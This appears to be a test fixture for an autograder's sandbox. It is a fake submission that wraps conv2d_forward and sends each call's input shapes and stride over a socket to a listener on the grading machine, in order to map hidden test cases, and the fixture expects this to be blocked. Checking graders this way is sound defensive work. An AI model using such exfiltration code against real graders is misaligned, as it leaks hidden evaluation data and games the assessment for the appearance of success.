"""Sends every conv2d_forward input to a listener on the grading machine (maps the hidden cases).

conv1d is built on conv2d, so the conv1d questions fail with it."""
# otter: no
# zeroes: q4, q5, q6, q7
# message: network access is not allowed
# listener: yes

import json
import socket

_EXFIL_PORT = 0  # replaced by the test with the port of its listener
_conv2d_forward_solution = conv2d_forward


def conv2d_forward(x, w, b, stride=1, padding=0, dilation=1):
    with socket.create_connection(("127.0.0.1", _EXFIL_PORT), timeout=2) as sock:
        sock.sendall(json.dumps({"x": list(x.shape), "w": list(w.shape), "stride": str(stride)}).encode())
    return _conv2d_forward_solution(x, w, b, stride=stride, padding=padding, dilation=dilation)
